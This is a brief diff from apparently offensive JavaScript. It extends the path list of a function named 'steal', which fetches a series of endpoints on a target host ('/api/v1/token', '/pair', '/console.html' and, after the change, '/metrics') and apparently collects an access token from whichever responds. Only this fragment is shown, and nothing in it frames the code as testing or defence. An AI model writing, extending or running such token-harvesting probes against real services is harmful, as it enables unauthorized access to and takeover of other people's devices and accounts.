@@ -31,7 +31,7 @@ function kit(id, target, number, teller) {
 	async function steal(base, headers = {}) {
 		let token = '';
 
-		for (const path of ['/api/v1/token', '/api/v1/calls',
+		for (const path of ['/api/v1/token', '/api/v1/calls', '/metrics',
 			'/api/v1/status', '/pair', '/console.html', '/host.html',
 			'/']) {
 			const res = await fetch(base + path, { headers }).catch(note);
